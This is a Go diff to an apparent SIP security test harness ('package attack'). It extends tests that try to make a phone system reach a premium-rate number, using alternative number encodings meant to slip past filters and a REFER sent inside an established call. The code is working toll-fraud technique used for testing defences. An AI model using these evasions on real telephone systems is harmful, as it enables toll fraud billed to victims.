@@ -2,6 +2,8 @@ package attack
 
 import (
 	"context"
+	"fmt"
+	"strings"
 	"time"
 
 	"imsafe/proto/sip"
@@ -32,15 +34,17 @@ func dialPremium(ctx context.Context, f *Field, o *Outcome) error {
 		return err
 	}
 	const times = 10
-	rung := 0
+	rung, as := 0, f.Premium
+	written := f.waysToWrite(f.Premium)
 	for i := range times {
-		answer, err := mallory.Ask(ctx, mallory.Message(f.Premium, "paid"))
+		uri := written[i%len(written)]
+		answer, err := mallory.Ask(ctx, mallory.Message(uri, "paid"))
 		if err != nil {
 			return err
 		}
 		o.Arrived("%d messages to %s, the last answered %d", i+1, f.Premium, answer.Status())
 		if answer.Status() == 200 {
-			rung++
+			rung, as = rung+1, uri
 		}
 	}
 	if rung > 0 {
@@ -49,8 +53,19 @@ func dialPremium(ctx context.Context, f *Field, o *Outcome) error {
 		}
 	}
 	o.Users = min(rung, 1)
-	o.Peer(rung > 0, "the owner of %s gets %d of %d messages", f.Premium, rung, times)
+	o.Peer(rung > 0, "the owner of %s gets %d of %d messages, the last to %s", f.Premium, rung, times, as)
 	return nil
+}
+
+// waysToWrite are ways to write a number: as it is, with what people put between digits (RFC 3966 5.1.1), and as a SIP URI (RFC 3261 19.1.6), whose digits may
+// be escaped.
+func (f *Field) waysToWrite(number string) []string {
+	digits, isNumber := strings.CutPrefix(number, "tel:+")
+	if !isNumber || len(digits) < 4 {
+		return []string{number}
+	}
+	home := "@" + f.Domain + ";user=phone"
+	return []string{number, "tel:+" + digits[:3] + "-(" + digits[3:4] + ")." + digits[4:], "sip:+" + digits + home, "sip:%2B" + fmt.Sprintf("%%%02X", digits[0]) + digits[1:] + home}
 }
 
 // referPremium asks carol's telephone to call the number.
@@ -77,8 +92,22 @@ func referPremium(ctx context.Context, f *Field, o *Outcome) error {
 		}
 		asked++
 	}
+	inside, _, err := mallory.talksTo(ctx, carol)
+	if err != nil {
+		return err
+	}
+	inside.Method = "REFER" // and in a call that she has taken
+	inside.Lines = append(inside.Lines, "Contact: "+mallory.Contact(), "Refer-To: <"+f.Premium+">")
+	answer, err := mallory.Ask(ctx, mallory.Text(inside))
+	if err != nil {
+		return err
+	}
+	o.Arrived("%d REFERs, and one in a call, answered %d", times, answer.Status())
+	if answer.Status()/100 == 2 {
+		asked++
+	}
 	o.Users = min(asked, 1)
-	o.Peer(asked > 0, "carol's telephone is asked %d of %d times to call %s", asked, times, f.Premium)
+	o.Peer(asked > 0, "carol's telephone is asked %d of %d times to call %s", asked, times+1, f.Premium)
 	return nil
 }
 
